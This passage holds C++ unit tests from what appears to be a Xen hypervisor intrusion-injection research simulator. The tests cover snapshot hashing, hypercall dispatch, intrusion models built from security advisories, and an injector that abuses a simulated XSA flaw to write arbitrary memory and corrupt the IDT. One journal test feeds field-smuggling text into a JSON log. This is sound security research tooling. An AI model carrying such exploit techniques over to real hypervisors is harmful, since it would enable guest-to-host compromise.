  f.mem.write_slot(f.guest_mfn(5), 0, 0xdeadbeefULL);
  EXPECT_NE(snap.hash, f.hv.state_hash());

  f.hv.restore(snap);
  EXPECT_EQ(snap.hash, f.hv.state_hash());
  // And the restored state behaves like the original: the unmapped slot is
  // mapped again, so a second unmap still succeeds.
  EXPECT_EQ(kOk, mmu_update(f.hv, f.guest, l1, 4, 0));
}

TEST(Snapshot, RestoreRevertsCrashFlags) {
  Fixture f;
  const HvSnapshot snap = f.hv.snapshot();
  f.hv.panic("test-induced");
  EXPECT_TRUE(f.hv.crashed());
  f.hv.restore(snap);
  EXPECT_FALSE(f.hv.crashed());
  EXPECT_EQ(snap.hash, f.hv.state_hash());
}

TEST(Snapshot, HashSeesFrameContentAndBookkeeping) {
  Fixture f;
  const std::uint64_t h0 = f.hv.state_hash();

  // Raw content change only (no PageInfo change).
  f.mem.write_slot(f.guest_mfn(5), 7, 0x1234);
  const std::uint64_t h1 = f.hv.state_hash();
  EXPECT_NE(h0, h1);

  // Bookkeeping-only change.
  ++f.hv.frames().info(f.guest_mfn(5)).ref_count;
  EXPECT_NE(h1, f.hv.state_hash());
}

TEST(Snapshot, PinOrderIsCanonicalized) {
  // Two machines that pin the same two tables in opposite order must hash
  // identically — the pinned list is sorted into the hash so exploration
  // order does not split equivalent states.
  Fixture a, b;
  const sim::Mfn t1 = a.guest_mfn(kFirstFreePfn.raw());
  const sim::Mfn t2 = a.guest_mfn(kFirstFreePfn.raw() + 1);
  // Zero-fill makes both frames valid empty L1 tables.
  const auto pin = [](Fixture& f, sim::Mfn mfn) {
    ASSERT_EQ(kOk, f.hv.hypercall_mmuext_op(
                       f.guest, MmuExtOp{MmuExtCmd::PinL1Table, mfn}));
  };
  // Unmap both data pages first so they are type-free and pinnable.
  for (Fixture* f : {&a, &b}) {
    const sim::Mfn l1 = f->guest_mfn(12);
    ASSERT_EQ(kOk, mmu_update(f->hv, f->guest, l1, kFirstFreePfn.raw(), 0));
    ASSERT_EQ(kOk,
              mmu_update(f->hv, f->guest, l1, kFirstFreePfn.raw() + 1, 0));
  }
  pin(a, t1);
  pin(a, t2);
  pin(b, b.guest_mfn(kFirstFreePfn.raw() + 1));
  pin(b, b.guest_mfn(kFirstFreePfn.raw()));
  EXPECT_EQ(a.hv.state_hash(), b.hv.state_hash());
}

TEST(Snapshot, ConsoleIsExcludedFromHash) {
  Fixture f;
  const std::uint64_t h0 = f.hv.state_hash();
  f.hv.log("chatter that must not split states");
  EXPECT_EQ(h0, f.hv.state_hash());
  // But restore still rewinds the console ring.
  const HvSnapshot snap = f.hv.snapshot();
  const std::size_t lines = f.hv.console().size();
  f.hv.log("post-snapshot line");
  f.hv.restore(snap);
  EXPECT_EQ(lines, f.hv.console().size());
}

TEST(Snapshot, RejectsForeignShape) {
  Fixture f;
  HvSnapshot snap = f.hv.snapshot();
  snap.memory.resize(snap.memory.size() + sim::kPageSize);
  EXPECT_THROW(f.hv.restore(snap), std::logic_error);
}

TEST(Snapshot, ForeignDeltaRestoresAcrossMachines) {
  // The sharded model checker captures a delta on one worker's machine and
  // replays it on another. Write generations are per-machine, so the
  // foreign restore must stamp fresh generations for delta-carried frames —
  // otherwise machine B's digest cache can serve a stale digest for a (gen,
  // content) pair that machine A's history assigned to different bytes.
  Fixture a, b;
  ASSERT_EQ(a.hv.state_hash(), b.hv.state_hash());
  const HvSnapshot root_a = a.hv.snapshot();
  const HvSnapshot root_b = b.hv.snapshot();
  ASSERT_EQ(root_a.mem_generation, root_b.mem_generation);

  // Machine A produces a state the usual way.
  ASSERT_EQ(kOk, mmu_update(a.hv, a.guest, a.guest_mfn(12), 4, 0));
  const HvDelta delta = a.hv.snapshot_delta(root_a);

  // Machine B meanwhile took its own divergent path (bumping its private
  // write generations and populating its digest cache)...
  b.mem.write_slot(b.guest_mfn(5), 0, 0xdeadbeefULL);
  (void)b.hv.state_hash();

  // ...and now adopts A's state. The incremental hash must agree with the
  // ground-truth full rehash, not just with the cached digests.
  b.hv.restore_delta(root_b, delta, /*foreign=*/true);
  EXPECT_EQ(delta.hash, b.hv.state_hash());
  EXPECT_EQ(b.hv.state_hash(), b.hv.state_hash_full());

  // The adopted state is behaviorally A's state: the slot A unmapped can be
  // re-unmapped on B exactly once more semantics-wise (it is now empty, so
  // a repeat write of zero still succeeds as a no-op update).
  EXPECT_EQ(kOk, mmu_update(b.hv, b.guest, b.guest_mfn(12), 4, 0));
}

}  // namespace
}  // namespace ii::hv
