// The numbered hypercall table: classic slots, vacant slots, the
// per-version placement of the injection hypercall, and number/payload
// mismatches.
#include <gtest/gtest.h>

#include "guest/platform.hpp"
#include "hv/hypercall_table.hpp"

namespace ii::hv {
namespace {

guest::VirtualPlatform make_platform(XenVersion version,
                                     bool injector = true) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.injector_enabled = injector;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return guest::VirtualPlatform{pc};
}

TEST(HypercallTable, ConsoleIoThroughNumberedSlot) {
  auto p = make_platform(kXen48);
  HypercallPayload payload = ConsoleIoCall{"hello from slot 18"};
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(), kHcConsoleIo,
                               payload),
            kOk);
  EXPECT_NE(p.hv().console().back().find("hello from slot 18"),
            std::string::npos);
}

TEST(HypercallTable, MmuUpdateThroughNumberedSlot) {
  auto p = make_platform(kXen48);
  guest::GuestKernel& g = p.guest(0);
  const MmuUpdate req{g.l1_slot_paddr(sim::Pfn{5}).raw(), 0};  // unmap pfn 5
  HypercallPayload payload = MmuUpdateCall{{&req, 1}, nullptr};
  EXPECT_EQ(dispatch_hypercall(p.hv(), g.id(), kHcMmuUpdate, payload), kOk);
  EXPECT_FALSE(g.read_u64(g.pfn_va(sim::Pfn{5})).has_value());
}

TEST(HypercallTable, MemoryOpSubCommands) {
  auto p = make_platform(kXen48);
  guest::GuestKernel& g = p.guest(0);
  const auto pfn = g.alloc_pfn();
  ASSERT_EQ(g.unmap_pfn(*pfn), kOk);
  HypercallPayload dec = MemoryOpCall{MemoryOpCmd::DecreaseReservation,
                                      nullptr, *pfn};
  EXPECT_EQ(dispatch_hypercall(p.hv(), g.id(), kHcMemoryOp, dec), kOk);
  HypercallPayload pop = MemoryOpCall{MemoryOpCmd::PopulatePhysmap, nullptr,
                                      *pfn};
  EXPECT_EQ(dispatch_hypercall(p.hv(), g.id(), kHcMemoryOp, pop), kOk);

  MemoryExchange exch{};
  exch.in_extents = {*pfn};
  exch.out_extent_start = g.pfn_va(sim::Pfn{5});
  HypercallPayload ex = MemoryOpCall{MemoryOpCmd::Exchange, &exch, {}};
  EXPECT_EQ(dispatch_hypercall(p.hv(), g.id(), kHcMemoryOp, ex), kOk);
  EXPECT_EQ(exch.nr_exchanged, 1u);
}

TEST(HypercallTable, GrantAndEventSlots) {
  auto p = make_platform(kXen48);
  guest::GuestKernel& a = p.guest(0);
  guest::GuestKernel& b = p.guest(1);

  const auto pfn = a.alloc_pfn();
  GrantTableOpCall grant{};
  grant.op = GrantTableOpCall::Op::GrantAccess;
  grant.ref = 2;
  grant.peer = b.id();
  grant.pfn = *pfn;
  grant.readonly = true;
  HypercallPayload gp = grant;
  EXPECT_EQ(dispatch_hypercall(p.hv(), a.id(), kHcGrantTableOp, gp), kOk);

  EventChannelOpCall alloc{};
  alloc.op = EventChannelOpCall::Op::AllocUnbound;
  alloc.remote = b.id();
  unsigned port = 99;
  alloc.out_port = &port;
  HypercallPayload ep = alloc;
  EXPECT_EQ(dispatch_hypercall(p.hv(), a.id(), kHcEventChannelOp, ep), kOk);
  EXPECT_NE(port, 99u);
}

TEST(HypercallTable, VacantSlotsReturnEnosys) {
  auto p = make_platform(kXen48);
  HypercallPayload payload = ConsoleIoCall{"x"};
  for (const unsigned nr : {2u, 3u, 7u, 55u, 99u}) {
    EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(), nr, payload),
              kENOSYS)
        << nr;
  }
}

TEST(HypercallTable, NumberPayloadMismatchIsEnosys) {
  auto p = make_platform(kXen48);
  HypercallPayload payload = ConsoleIoCall{"x"};
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(), kHcMmuUpdate,
                               payload),
            kENOSYS);
}

TEST(HypercallTable, ArbitraryAccessSlotMovesAcrossVersions) {
  EXPECT_EQ(arbitrary_access_nr(kXen46), 41u);
  EXPECT_EQ(arbitrary_access_nr(kXen48), 42u);
  EXPECT_EQ(arbitrary_access_nr(kXen413), 44u);

  // The right number on the right version works...
  auto p = make_platform(kXen413);
  std::array<std::uint8_t, 8> buf{};
  ArbitraryAccessCall call{};
  call.request.addr = 0;
  call.request.buffer = buf;
  call.request.action = AccessAction::ReadPhysical;
  HypercallPayload payload = call;
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(),
                               arbitrary_access_nr(kXen413), payload),
            kOk);
  // ...but a script hard-coding 4.6's slot breaks on 4.13 — the paper's
  // "small changes in the hypercalls table" in action.
  HypercallPayload payload46 = call;
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(),
                               arbitrary_access_nr(kXen46), payload46),
            kENOSYS);
}

TEST(HypercallTable, DomctlSlotEnforcesPrivilege) {
  auto p = make_platform(kXen48);
  HypercallPayload payload = DomctlCall{p.guest(1).id()};
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.guest(0).id(), kHcDomctl, payload),
            kEPERM);
  HypercallPayload again = DomctlCall{p.guest(1).id()};
  EXPECT_EQ(dispatch_hypercall(p.hv(), p.dom0().id(), kHcDomctl, again), kOk);
}

}  // namespace
}  // namespace ii::hv
