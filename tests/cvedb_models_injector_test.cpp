// Intrusion-model derivation from the study, and the vulnerability-backed
// injector (the "existing functionality used in a non-conforming manner"
// alternative of §IV-A).
#include <gtest/gtest.h>

#include "cvedb/advisories.hpp"
#include "guest/platform.hpp"
#include "xsa/vuln_backed_injector.hpp"

namespace ii {
namespace {

// ------------------------------------------------------- model derivation

TEST(DerivedModels, CoverEveryFunctionalityInTheStudy) {
  const auto models = cvedb::derive_intrusion_models(cvedb::study_records());
  ASSERT_FALSE(models.empty());
  // Support counts add up to the total functionality assignments.
  int support = 0;
  for (const auto& derived : models) support += derived.supporting_advisories;
  EXPECT_EQ(support, cvedb::classify(cvedb::study_records())
                         .total_assignments());
  // Sorted by support, descending.
  for (std::size_t i = 1; i < models.size(); ++i) {
    EXPECT_GE(models[i - 1].supporting_advisories,
              models[i].supporting_advisories);
  }
}

TEST(DerivedModels, GroupsCarryExamplesAndDescriptions) {
  const auto models = cvedb::derive_intrusion_models(cvedb::study_records());
  for (const auto& derived : models) {
    EXPECT_GT(derived.supporting_advisories, 0);
    EXPECT_FALSE(derived.examples.empty());
    EXPECT_LE(derived.examples.size(), 3u);
    EXPECT_FALSE(derived.model.erroneous_state.empty());
  }
}

TEST(DerivedModels, ComponentDrivesInterface) {
  const auto models = cvedb::derive_intrusion_models(cvedb::study_records());
  bool io = false, evtchn = false, hypercall = false;
  for (const auto& derived : models) {
    if (derived.model.component == core::TargetComponent::IoEmulation) {
      EXPECT_EQ(derived.model.interface,
                core::InteractionInterface::IoRequest);
      io = true;
    }
    if (derived.model.component ==
        core::TargetComponent::InterruptHandling) {
      EXPECT_EQ(derived.model.interface,
                core::InteractionInterface::EventChannel);
      evtchn = true;
    }
    if (derived.model.component ==
        core::TargetComponent::MemoryManagement) {
      EXPECT_EQ(derived.model.interface,
                core::InteractionInterface::Hypercall);
      hypercall = true;
    }
  }
  EXPECT_TRUE(io);
  EXPECT_TRUE(evtchn);
  EXPECT_TRUE(hypercall);
}

TEST(DerivedModels, TableTwoModelsEmergeFromTheStudy) {
  // The paper's Table II rows must be derivable from the study: a
  // memory-management model with Write Unauthorized Arbitrary Memory and
  // one with Guest-Writable Page Table Entry, both hypercall-driven.
  const auto models = cvedb::derive_intrusion_models(cvedb::study_records());
  bool arbitrary_write = false, writable_pte = false;
  for (const auto& derived : models) {
    if (derived.model.component != core::TargetComponent::MemoryManagement) {
      continue;
    }
    if (derived.model.functionality ==
        core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory) {
      arbitrary_write = true;
    }
    if (derived.model.functionality ==
        core::AbusiveFunctionality::GuestWritablePageTableEntry) {
      writable_pte = true;
    }
  }
  EXPECT_TRUE(arbitrary_write);
  EXPECT_TRUE(writable_pte);
}

TEST(DerivedModels, CatalogueRenders) {
  const auto models = cvedb::derive_intrusion_models(cvedb::study_records());
  const std::string out = cvedb::render_model_catalogue(models);
  EXPECT_NE(out.find("derived intrusion models"), std::string::npos);
  EXPECT_NE(out.find("XSA-212"), std::string::npos);
  EXPECT_NE(out.find("advisories]"), std::string::npos);
}

// --------------------------------------------- vulnerability-backed injector

guest::VirtualPlatform make_platform(hv::XenVersion version) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.injector_enabled = false;  // the whole point: no patched hypervisor
  pc.machine_frames = 16384;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return guest::VirtualPlatform{pc};
}

TEST(VulnBackedInjector, WritesThroughTheVulnerabilityOn46) {
  auto p = make_platform(hv::kXen46);
  xsa::VulnerabilityBackedInjector injector{p.guest(0)};
  const sim::Paddr target =
      sim::mfn_to_paddr(p.hv().domain(hv::kDom0).start_info_mfn()) + 0x300;
  ASSERT_TRUE(injector.write_u64(hv::directmap_vaddr(target).raw(),
                                 0x1122334455667788ULL,
                                 core::AddressMode::Linear));
  EXPECT_EQ(p.memory().read_u64(target), 0x1122334455667788ULL);
  EXPECT_GT(injector.exchanges_used(), 8u);
}

TEST(VulnBackedInjector, CanInjectTheCrashStateWithoutAPatchedBuild) {
  auto p = make_platform(hv::kXen46);
  xsa::VulnerabilityBackedInjector injector{p.guest(0)};
  const std::uint64_t gate =
      p.hv().sidt().raw() + sim::kPageFaultVector * sim::Idt::kGateBytes;
  ASSERT_TRUE(injector.write_u64(gate, 0, core::AddressMode::Linear));
  EXPECT_FALSE(p.hv().idt().read(sim::kPageFaultVector).well_formed());
}

TEST(VulnBackedInjector, UselessOnFixedVersions) {
  // The portability limitation the paper's purpose-built injector avoids.
  auto p = make_platform(hv::kXen48);
  xsa::VulnerabilityBackedInjector injector{p.guest(0)};
  EXPECT_FALSE(injector.write_u64(p.hv().sidt().raw(), 0,
                                  core::AddressMode::Linear));
  EXPECT_EQ(injector.last_rc(), hv::kEFAULT);
}

TEST(VulnBackedInjector, NoReadsNoPhysicalMode) {
  auto p = make_platform(hv::kXen46);
  xsa::VulnerabilityBackedInjector injector{p.guest(0)};
  std::array<std::uint8_t, 8> buf{};
  EXPECT_FALSE(injector.read(0x1000, buf, core::AddressMode::Linear));
  EXPECT_EQ(injector.last_rc(), hv::kENOSYS);
  EXPECT_FALSE(injector.write(0x1000, buf, core::AddressMode::Physical));
  EXPECT_EQ(injector.last_rc(), hv::kEINVAL);
}

TEST(VulnBackedInjector, PartialWordWritesZeroPad) {
  auto p = make_platform(hv::kXen46);
  xsa::VulnerabilityBackedInjector injector{p.guest(0)};
  const sim::Paddr target =
      sim::mfn_to_paddr(p.hv().domain(hv::kDom0).start_info_mfn()) + 0x300;
  p.memory().write_u64(target, ~0ULL);
  const std::array<std::uint8_t, 3> bytes{0xAA, 0xBB, 0xCC};
  ASSERT_TRUE(injector.write(hv::directmap_vaddr(target).raw(), bytes,
                             core::AddressMode::Linear));
  EXPECT_EQ(p.memory().read_u64(target), 0x0000000000CCBBAAULL);
}

}  // namespace
}  // namespace ii
