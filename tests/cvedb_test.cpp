// The §IV-D study dataset and its Table I aggregation.
#include <gtest/gtest.h>

#include "cvedb/advisories.hpp"

namespace ii::cvedb {
namespace {

using core::AbusiveFunctionality;
using core::FunctionalityClass;

int count_of(const TableOne& table, AbusiveFunctionality af) {
  for (const auto& row : table.rows) {
    if (row.functionality == af) return row.count;
  }
  return -1;
}

TEST(StudyRecords, ExactlyOneHundredAdvisories) {
  EXPECT_EQ(study_records().size(), 100u);
}

TEST(StudyRecords, EveryRecordIsWellFormed) {
  for (const auto& rec : study_records()) {
    EXPECT_FALSE(rec.functionalities.empty()) << rec.xsa_id << rec.cve_id;
    EXPECT_FALSE(rec.summary.empty());
    EXPECT_FALSE(rec.component.empty());
    EXPECT_GE(rec.year, 2012);
    EXPECT_LE(rec.year, 2022);
    EXPECT_FALSE(rec.xsa_id.empty() && rec.cve_id.empty());
  }
}

TEST(StudyRecords, PaperAnchorsPresent) {
  const auto find = [](const std::string& id) {
    for (const auto& rec : study_records()) {
      if (rec.xsa_id == id || rec.cve_id == id) return true;
    }
    return false;
  };
  EXPECT_TRUE(find("XSA-148"));
  EXPECT_TRUE(find("XSA-182"));
  EXPECT_TRUE(find("XSA-212"));
  EXPECT_TRUE(find("XSA-302"));
  EXPECT_TRUE(find("XSA-133"));
  EXPECT_TRUE(find("XSA-387"));
  EXPECT_TRUE(find("XSA-393"));
  EXPECT_TRUE(find("CVE-2019-17343"));
  EXPECT_TRUE(find("CVE-2020-27672"));
}

TEST(StudyRecords, PaperCitedDualFunctionalityAdvisories) {
  // §IV-D: "some CVEs can have more than one abusive functionality ...
  // e.g., CVE-2019-17343, CVE-2020-27672".
  int duals = 0;
  for (const auto& rec : study_records()) {
    if (rec.functionalities.size() > 1) ++duals;
    if (rec.cve_id == "CVE-2019-17343" || rec.cve_id == "CVE-2020-27672") {
      EXPECT_EQ(rec.functionalities.size(), 2u) << rec.cve_id;
    }
  }
  EXPECT_GT(duals, 0);
}

TEST(TableOneAggregation, VisibleCellsMatchPaper) {
  const TableOne table = classify(study_records());
  // The cells readable in the paper's Table I.
  EXPECT_EQ(count_of(table, AbusiveFunctionality::CorruptVirtualMemoryMapping),
            4);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::CorruptPageReference), 4);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::FailMemoryMapping), 2);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::KeepPageAccess), 11);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::InduceFatalException), 6);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::InduceMemoryException), 5);
  EXPECT_EQ(count_of(table, AbusiveFunctionality::InduceHangState), 20);
  EXPECT_EQ(count_of(
                table,
                AbusiveFunctionality::UncontrolledArbitraryInterruptRequests),
            2);
}

TEST(TableOneAggregation, ClassTotalsMatchPaper) {
  const TableOne table = classify(study_records());
  EXPECT_EQ(table.class_total(FunctionalityClass::MemoryAccess), 35);
  EXPECT_EQ(table.class_total(FunctionalityClass::MemoryManagement), 40);
  EXPECT_EQ(table.class_total(FunctionalityClass::ExceptionalConditions), 11);
  EXPECT_EQ(table.class_total(FunctionalityClass::NonMemoryRelated), 22);
  // "the total amount of functionalities classified is greater than 100".
  EXPECT_EQ(table.total_assignments(), 108);
  EXPECT_GT(table.total_assignments(),
            static_cast<int>(study_records().size()));
}

TEST(TableOneAggregation, EveryFunctionalityAppears) {
  const TableOne table = classify(study_records());
  EXPECT_EQ(table.rows.size(), 16u);
  for (const auto& row : table.rows) EXPECT_GT(row.count, 0);
}

TEST(TableOneRender, ContainsClassHeadersAndRows) {
  const std::string out = render_table1(classify(study_records()));
  EXPECT_NE(out.find("Memory Access -- 35 CVEs"), std::string::npos);
  EXPECT_NE(out.find("Memory Management -- 40 CVEs"), std::string::npos);
  EXPECT_NE(out.find("Exceptional Conditions -- 11 CVEs"), std::string::npos);
  EXPECT_NE(out.find("Non-Memory Related -- 22 CVEs"), std::string::npos);
  EXPECT_NE(out.find("Keep Page Access"), std::string::npos);
  EXPECT_NE(out.find("108"), std::string::npos);
}

TEST(TableOneAggregation, ClassifyOnSubset) {
  // classify() is a pure function of its input.
  std::vector<AdvisoryRecord> two{study_records()[0], study_records()[1]};
  const TableOne table = classify(two);
  int total = 0;
  for (const auto& row : table.rows) total += row.count;
  int expected = 0;
  for (const auto& rec : two) {
    expected += static_cast<int>(rec.functionalities.size());
  }
  EXPECT_EQ(total, expected);
}

}  // namespace
}  // namespace ii::cvedb
