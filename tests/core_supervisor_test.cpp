// Campaign supervisor: per-cell fault isolation, deterministic budgets,
// retry/quarantine, and the resumable JSONL journal.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <map>
#include <sstream>

#include "core/chaos.hpp"
#include "core/journal.hpp"
#include "core/report.hpp"
#include "core/supervisor.hpp"
#include "xsa/usecases.hpp"

namespace ii {
namespace {

using core::CellResult;

guest::PlatformConfig small_platform() {
  guest::PlatformConfig pc{};
  pc.machine_frames = 16384;
  pc.dom0_pages = 256;
  pc.guest_pages = 128;
  return pc;
}

core::CampaignConfig small_config() {
  core::CampaignConfig config{};
  config.platform = small_platform();
  config.logical_time = true;  // byte-identical CSV across runs/threads
  return config;
}

/// Always throws from both attempt paths.
class ThrowingCase final : public core::UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "THROWING"; }
  [[nodiscard]] core::IntrusionModel model() const override { return {}; }
  core::CaseOutcome run_exploit(guest::VirtualPlatform&) override {
    throw std::runtime_error{"use case blew up (exploit)"};
  }
  core::CaseOutcome run_injection(guest::VirtualPlatform&) override {
    throw std::runtime_error{"use case blew up (injection)"};
  }
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform&) const override {
    return false;
  }
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform&) const override {
    return false;
  }
};

/// Fails the first `fail_first` attempts of every cell, then succeeds.
/// Attempt state is per (version, mode): retries of one cell land on the
/// same instance (the supervisor retries inline on one worker).
class FlakyCase final : public core::UseCase {
 public:
  explicit FlakyCase(unsigned fail_first) : fail_first_{fail_first} {}
  [[nodiscard]] std::string name() const override { return "FLAKY"; }
  [[nodiscard]] core::IntrusionModel model() const override { return {}; }
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override {
    return attempt(p);
  }
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override {
    return attempt(p);
  }
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform&) const override {
    return false;
  }
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform&) const override {
    return false;
  }

 private:
  core::CaseOutcome attempt(guest::VirtualPlatform& p) {
    const std::string key = p.config().version.to_string();
    if (attempts_[key]++ < fail_first_) {
      throw std::runtime_error{"flaky attempt failed"};
    }
    core::CaseOutcome out;
    out.completed = true;
    return out;
  }
  unsigned fail_first_;
  std::map<std::string, unsigned> attempts_;
};

/// Counts how many times any attempt path actually ran (to prove resume
/// skips journaled cells).
class CountingCase final : public core::UseCase {
 public:
  explicit CountingCase(unsigned* runs) : runs_{runs} {}
  [[nodiscard]] std::string name() const override { return "COUNTING"; }
  [[nodiscard]] core::IntrusionModel model() const override { return {}; }
  core::CaseOutcome run_exploit(guest::VirtualPlatform&) override {
    ++*runs_;
    core::CaseOutcome out;
    out.completed = true;
    return out;
  }
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override {
    return run_exploit(p);
  }
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform&) const override {
    return false;
  }
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform&) const override {
    return false;
  }

 private:
  unsigned* runs_;
};

std::string temp_journal(const std::string& name) {
  return ::testing::TempDir() + "supervisor_" + name + ".jsonl";
}

TEST(CampaignIsolation, ThrowingUseCaseDoesNotAbortTheCampaign) {
  auto config = small_config();
  const core::Campaign campaign{config};
  std::vector<std::unique_ptr<core::UseCase>> cases;
  cases.push_back(std::make_unique<ThrowingCase>());

  const auto results = campaign.run(cases);
  ASSERT_EQ(results.size(), config.versions.size() * config.modes.size());
  for (const auto& cell : results) {
    EXPECT_TRUE(cell.failed());
    EXPECT_FALSE(cell.outcome.completed);
    EXPECT_NE(cell.failure.find("use case blew up"), std::string::npos);
  }
}

TEST(CampaignBudget, HypercallBudgetFailsTheCellDeterministically) {
  auto config = small_config();
  config.versions = {hv::kXen48};
  config.modes = {core::Mode::Injection};
  config.max_cell_hypercalls = 3;  // XSA-212-priv injection needs more
  const core::Campaign campaign{config};

  auto use_case = [] {
    auto cases = xsa::make_paper_use_cases();
    for (auto& c : cases) {
      if (c->name() == "XSA-212-priv") return std::move(c);
    }
    return std::unique_ptr<core::UseCase>{};
  }();
  ASSERT_NE(use_case, nullptr);

  const CellResult first =
      campaign.run_cell(*use_case, hv::kXen48, core::Mode::Injection);
  EXPECT_TRUE(first.failed());
  EXPECT_NE(first.failure.find("hypercall budget exceeded"),
            std::string::npos);

  // Deterministic watchdog: the second run trips at the same point.
  const CellResult second =
      campaign.run_cell(*use_case, hv::kXen48, core::Mode::Injection);
  EXPECT_EQ(first.failure, second.failure);
  EXPECT_EQ(first.hypercalls, second.hypercalls);
  EXPECT_EQ(first.wall_us, second.wall_us);
}

TEST(Supervisor, RetryRecordsAttemptsAndEventuallySucceeds) {
  core::SupervisorConfig supervision{};
  supervision.max_attempts = 3;
  const core::CampaignSupervisor supervisor{small_config(), supervision};

  const auto results = supervisor.run(
      [] {
        std::vector<std::unique_ptr<core::UseCase>> cases;
        cases.push_back(std::make_unique<FlakyCase>(/*fail_first=*/1));
        return cases;
      });
  ASSERT_EQ(results.size(), 6u);
  // Per version the first attempt (exploit cell) fails once, then the
  // retry succeeds; the injection cell's first attempt succeeds directly.
  for (std::size_t i = 0; i < results.size(); ++i) {
    EXPECT_FALSE(results[i].failed()) << results[i].failure;
    EXPECT_EQ(results[i].attempts, i % 2 == 0 ? 2u : 1u);
  }
}

TEST(Supervisor, QuarantineSkipsAfterConsecutiveFailures) {
  core::SupervisorConfig supervision{};
  supervision.quarantine_after = 2;
  const core::CampaignSupervisor supervisor{small_config(), supervision};

  const auto results = supervisor.run([] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<ThrowingCase>());
    return cases;
  });
  ASSERT_EQ(results.size(), 6u);
  EXPECT_FALSE(results[0].quarantined);
  EXPECT_FALSE(results[1].quarantined);
  for (std::size_t i = 2; i < results.size(); ++i) {
    EXPECT_TRUE(results[i].quarantined);
    EXPECT_EQ(results[i].attempts, 0u);
    EXPECT_NE(results[i].failure.find("quarantined"), std::string::npos);
  }
}

TEST(Supervisor, FailureResultsAreIdenticalAcrossThreadCounts) {
  auto config = small_config();
  core::SupervisorConfig supervision{};
  supervision.max_attempts = 2;
  supervision.quarantine_after = 3;

  const auto factory = [] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<ThrowingCase>());
    cases.push_back(std::make_unique<FlakyCase>(/*fail_first=*/1));
    for (auto& real : xsa::make_paper_use_cases()) {
      if (real->name() == "XSA-212-priv") cases.push_back(std::move(real));
    }
    return cases;
  };

  supervision.threads = 1;
  const auto serial =
      core::CampaignSupervisor{config, supervision}.run(factory);
  supervision.threads = 8;
  const auto parallel =
      core::CampaignSupervisor{config, supervision}.run(factory);

  ASSERT_EQ(serial.size(), parallel.size());
  for (std::size_t i = 0; i < serial.size(); ++i) {
    EXPECT_EQ(serial[i].attempts, parallel[i].attempts) << i;
    EXPECT_EQ(serial[i].failure, parallel[i].failure) << i;
    EXPECT_EQ(serial[i].quarantined, parallel[i].quarantined) << i;
    EXPECT_EQ(serial[i].wall_us, parallel[i].wall_us) << i;
  }
  // The strong form: the rendered CSV reports are byte-identical.
  EXPECT_EQ(core::render_csv(serial), core::render_csv(parallel));
}

TEST(Journal, EntriesRoundTripIncludingHostileFailureText) {
  CellResult cell;
  cell.use_case = "XSA-212-priv";
  cell.version = hv::kXen413;
  cell.mode = core::Mode::Injection;
  cell.outcome.completed = false;
  cell.outcome.rc = -14;
  cell.err_state = true;
  cell.wall_us = 123456;
  cell.hypercalls = 42;
  cell.attempts = 3;
  cell.recovered = true;
  // Free text that tries to impersonate journal fields and break quoting.
  cell.failure = "line1\nline2\t\"quoted\",\"attempts\":999,\\u0000";

  const auto parsed = core::parse_journal_entry(core::journal_entry(cell));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->use_case, cell.use_case);
  EXPECT_EQ(parsed->version.to_string(), "4.13");
  EXPECT_EQ(parsed->mode, core::Mode::Injection);
  EXPECT_EQ(parsed->outcome.completed, false);
  EXPECT_EQ(parsed->outcome.rc, -14);
  EXPECT_EQ(parsed->err_state, true);
  EXPECT_EQ(parsed->wall_us, 123456u);
  EXPECT_EQ(parsed->hypercalls, 42u);
  EXPECT_EQ(parsed->attempts, 3u);
  EXPECT_EQ(parsed->recovered, true);
  EXPECT_EQ(parsed->failure, cell.failure);
}

TEST(Journal, TornLinesAreRejected) {
  CellResult cell;
  cell.use_case = "XSA-148-priv";
  cell.version = hv::kXen48;
  cell.mode = core::Mode::Exploit;
  const std::string line = core::journal_entry(cell);
  ASSERT_TRUE(core::parse_journal_entry(line).has_value());
  // Every strict prefix is a torn write and must parse to nothing.
  for (std::size_t len = 0; len < line.size(); ++len) {
    EXPECT_FALSE(core::parse_journal_entry(line.substr(0, len)).has_value())
        << "prefix length " << len;
  }
}

TEST(Supervisor, ResumeReproducesTheIdenticalReportWithoutRerunning) {
  const std::string path = temp_journal("resume");
  std::remove(path.c_str());

  auto config = small_config();
  core::SupervisorConfig supervision{};
  supervision.journal_path = path;

  unsigned full_runs = 0;
  const auto factory = [&full_runs] {
    std::vector<std::unique_ptr<core::UseCase>> cases;
    cases.push_back(std::make_unique<CountingCase>(&full_runs));
    cases.push_back(std::make_unique<ThrowingCase>());
    return cases;
  };

  // Reference run: all 12 cells, journaled.
  const auto full =
      core::CampaignSupervisor{config, supervision}.run(factory);
  const std::string full_csv = core::render_csv(full);
  ASSERT_EQ(full.size(), 12u);
  const unsigned runs_in_full = full_runs;
  ASSERT_EQ(runs_in_full, 6u);

